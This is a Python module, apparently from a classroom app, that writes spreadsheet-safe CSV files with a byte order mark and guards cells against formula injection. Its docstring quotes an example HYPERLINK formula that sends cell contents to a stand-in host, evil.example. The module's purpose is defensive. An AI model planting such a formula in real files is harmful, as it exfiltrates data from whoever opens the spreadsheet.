"""CSV for spreadsheets, shared by every CSV the app writes: the formula guard and the writer.

Every CSV is returned as text with CRLF line ends (RFC 4180), quoting left to the :mod:`csv`
module. The files a teacher opens in a spreadsheet (the gradebook, the Canvas import) start with
a byte order mark (:data:`BOM`): Excel reads a CSV without one in the system's
legacy code page and shows "Zoë" as "ZoÃ«"; LibreOffice and Canvas read the mark as UTF-8's.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

BOM = "\ufeff"  # U+FEFF, written as EF BB BF in UTF-8: "this file is UTF-8" to Excel

# A cell starting with one of these is read as a formula by Excel, LibreOffice Calc or Google
# Sheets (OWASP "CSV Injection"; OWASP ASVS 5.0 1.2.10 adds NUL). Tab and CR matter because some
# importers strip them and then see the "=" behind them.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")


def guard_formula(cell: str) -> str:
    """``cell`` with a leading apostrophe if a spreadsheet would run it as a formula.

    Students type notes and the quoted text comes from news articles; a teacher opens the CSV in a
    spreadsheet. A note such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` would then be
    evaluated on the teacher's machine (it can leak other cells, or worse through DDE). The
    apostrophe makes the spreadsheet treat the cell as text. The price is a visible apostrophe
    in plain-text readers of the CSV; the JSON export is the lossless one.
    """
    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell


def csv_text(rows: Iterable[Sequence[str]]) -> str:
    """``rows`` as CSV text, every cell guarded with :func:`guard_formula`."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        writer.writerow([guard_formula(cell) for cell in row])
    return out.getvalue()
